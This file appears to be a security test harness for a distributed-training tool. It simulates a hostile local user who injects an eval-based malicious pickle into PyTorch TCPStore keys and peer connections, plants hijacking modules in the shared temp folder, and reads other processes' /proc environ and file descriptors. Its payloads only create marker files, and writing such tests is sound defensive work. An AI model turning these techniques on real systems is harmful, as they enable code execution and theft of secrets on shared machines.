"""Another user of this machine, who tries to reach into the work of the one that runs the tests.

    scene(act)          `act` runs in a network of its own, so that no port of others is touched
        Stranger(...)   a process of user 65534 beside it, which attacks for as long as the block

He joins stores, reads their keys and puts a pickle in their place, poses as a rank, plants modules,
lists, reads and locks folders, and looks into processes. What the pickle and the modules do is to
make a file in a folder of the victim's, which says that code was run.
"""

import base64
import ctypes
import fcntl
import multiprocessing
import os
import pickle
import socket
import struct
import traceback
from collections import Counter
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import psutil

USER = 65534
CLONE_NEWNET = 0x40000000
SIOCSIFFLAGS, IFF_UP, IFF_RUNNING = 0x8914, 0x1, 0x40
SET, DELETE_KEY, LIST_KEYS = 1, 8, 17  # of TCPStore's requests; the first says who it is
VALIDATE = b"\0" + struct.pack("<I", 0x3C85F7CE)
PLANTED = ("json", "psutil", "torch", "numpy", "manyhands")
FORK = multiprocessing.get_context("fork")


def scene(act: Callable, *args: object) -> object:
    """What `act` returns, called in a process with a network of its own; PermissionError if none.

    A fork, since another user may not be able to start the Python that runs the tests.
    """
    ours, its = FORK.Pipe()
    process = FORK.Process(target=_play, args=(its, act, args))
    process.start()
    its.close()
    try:
        kind, value = ours.recv()
    finally:
        process.join(30)
        process.kill()
    if kind == "raised":
        raise value
    return value


def loopback_up() -> None:
    """A new network has only a loopback, and that is down."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        fcntl.ioctl(one, SIOCSIFFLAGS, struct.pack("16sH14x", b"lo", IFF_UP | IFF_RUNNING))


def _play(told: object, act: Callable, args: tuple) -> None:
    try:
        if ctypes.CDLL(None, use_errno=True).unshare(CLONE_NEWNET):
            raise PermissionError(f"no network of its own: {os.strerror(ctypes.get_errno())}")
        loopback_up()
        told.send(("value", act(*args)))
    except PermissionError as problem:
        told.send(("raised", problem))
    except BaseException:
        told.send(("raised", AssertionError(traceback.format_exc())))


class Harm:
    """Makes a file in the folder when it is unpickled, as whoever unpickles it."""

    def __init__(self, folder: Path) -> None:
        self.code = f"open({str(folder / 'pickle')!r}, 'a').close() or []"

    def __reduce__(self) -> tuple:
        return eval, (self.code,)


class Stranger:
    """Attacks while the `with` block runs; `seen` then says what he has reached.

    Args:
        temp: the folder for temporary files, which all users share.
        harm: where his code makes a file if a process of the victim's runs it.
        numbers: what he says to ports, to pose as a rank; otherwise he sends rubbish.
    """

    def __init__(self, temp: Path, harm: Path, numbers: range = range(0)) -> None:
        self.temp, self.harm, self.numbers = temp, harm, numbers
        self.seen: dict[str, Counter] = {}
        self.pickle = pickle.dumps(Harm(harm))
        self.met: set[int] = set()
        self.held: list[socket.socket] = []

    def __enter__(self) -> "Stranger":
        self.control, its = FORK.Pipe()
        self.process = FORK.Process(target=self._live, args=(its,))
        self.process.start()
        assert self.control.recv() == "ready"
        return self

    def __exit__(self, *_: object) -> None:
        self.control.send("end")
        self.seen = self.control.recv()
        self.process.join(10)

    def _live(self, control: object) -> None:
        os.setgroups([])
        os.setgid(USER)
        os.setuid(USER)
        for kind in ("joined", "read", "names", "peers", "ports", "tried"):
            self.seen[kind] = Counter()
        self._plant()
        fcntl.flock(os.open(self.temp, os.O_RDONLY), fcntl.LOCK_EX)
        control.send("ready")
        while not control.poll(0.002):
            for where in psutil.net_connections("tcp"):
                if where.status == psutil.CONN_LISTEN:
                    self.seen["ports"][where.laddr.ip] += 1
                    if where.laddr.port not in self.met:
                        self._attack(where.laddr.port)
            self._hear()
            self._look()
        control.send(self.seen)

    def _plant(self) -> None:
        for name in PLANTED:
            code = f"open({str(self.harm / name)!r}, 'a').close()\nraise SystemExit('{name}')\n"
            (self.temp / f"{name}.py").write_text(code)
        for name in (f"manyhands-{os.getppid()}", "manyhands-0", "torchinductor_root"):
            (self.temp / name).mkdir(mode=0o777)

    # ---- ports ---------------------------------------------------------------------------------

    def _attack(self, port: int) -> None:
        self.met.add(port)
        self.seen["tried"]["ports"] += 1
        if not self.numbers:
            self._join_store(port)
        for number in self.numbers or range(4):
            rubbish = os.urandom(8) if number % 2 else b"\x80\x04" + self.pickle
            data = struct.pack("<q", number) if self.numbers else rubbish
            with suppress(OSError):
                one = connected(port)
                one.sendall(data)
                one.setblocking(False)
                self.held.append(one)

    def _join_store(self, port: int) -> None:
        """Read the keys of a TCPStore, and put a pickle into each but those of gloo."""
        for key in keys_of(port, self.pickle):
            self.met.discard(port)  # more keys will come
            self.seen["joined"][key[:40]] += 1

    def _hear(self) -> None:
        """What a rank sends to him whom it takes for another; he answers with the pickle."""
        for one in self.held:
            with suppress(OSError):
                if heard := one.recv(1 << 16):
                    self.seen["peers"][str(len(heard))] += 1
                    one.sendall(heard[: -min(len(heard), 64)] + self.pickle)

    # ---- files and processes -------------------------------------------------------------------

    def _look(self) -> None:
        """Read what is the victim's: in the temporary folder, and of processes."""
        for entry in os.scandir(self.temp):
            with suppress(OSError):
                if entry.stat().st_uid != USER:
                    self.seen["names"][entry.name] += 1
                    found = os.listdir(entry) if entry.is_dir() else Path(entry).read_bytes()
                    self.seen["read"][f"{entry.path}: {found}"] += 1
        for pid in psutil.pids():
            for name in ("environ", "fd"):
                with suppress(OSError):
                    path = f"/proc/{pid}/{name}"
                    if os.stat(f"/proc/{pid}").st_uid != USER:
                        found = os.listdir(path) if name == "fd" else Path(path).read_bytes()
                        self.seen["read"][path] += bool(found)


def _sized(data: bytes) -> bytes:
    return struct.pack("<Q", len(data)) + data


def connected(port: int) -> socket.socket:
    one = socket.socket()
    one.settimeout(0.1)
    one.connect(("127.0.0.1", port))
    return one


def keys_of(port: int, evil: bytes) -> list[str]:
    """The keys of the TCPStore at this port, whose values are now this pickle; [] if it is none.

    Those of gloo stay as they are, or the ranks would end at once.
    """
    keys = []
    with suppress(OSError, struct.error), connected(port) as one:
        one.sendall(VALIDATE + bytes([LIST_KEYS]))
        told = one.recv(1 << 20)
        if len(told) < 8:  # whoever listens has hung up: it is no store
            return []
        (count,) = struct.unpack_from("<Q", told)
        at = 8
        while count and at < len(told):
            (size,) = struct.unpack_from("<Q", told, at)
            key = told[at + 8 : at + 8 + size]
            if len(key) < size:  # it was another answer, as a web server's
                return keys
            keys.append(key.decode(errors="replace"))
            at += 8 + size
            value = base64.b64encode(evil) if b"rendezvous" in key else evil
            if b"default_pg" not in key:
                one.sendall(bytes([SET]) + _sized(key) + _sized(value))
    return keys
